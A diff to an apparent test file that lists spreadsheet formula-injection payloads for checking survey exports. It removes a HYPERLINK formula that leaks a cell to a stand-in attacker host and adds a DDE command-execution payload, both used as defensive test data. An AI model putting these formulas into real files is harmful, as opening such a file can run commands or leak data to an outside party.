@@ -13,7 +13,9 @@ from openpyxl import load_workbook
 from tests.fixtures import post_form, send_survey, sign_in
 
 HOSTILE = [
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    # No address in it: exports redact links in free text, and the point here is
+    # the formula.
+    '=CMD|" /C calc"!A0',
     "@SUM(1)",
     "+1+1",
     "-2+3",
